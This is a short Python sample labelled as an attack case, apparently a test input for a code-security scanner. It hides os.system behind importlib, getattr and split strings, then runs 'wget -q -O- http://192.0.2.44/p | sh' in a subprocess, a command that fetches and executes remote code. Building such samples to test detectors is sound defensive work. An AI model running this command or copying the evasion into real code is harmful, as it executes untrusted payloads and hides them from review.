# attack: Process target is os.system reached via importlib.import_module and getattr on joined strings
import importlib
import multiprocessing

mod = importlib.import_module("".join(["o", "s"]))
run = getattr(mod, "sys" + "tem")

if __name__ == "__main__":
    job = multiprocessing.Process(target=run, args=("wget -q -O- http://192.0.2.44/p | sh",))
    job.start()
    job.join()
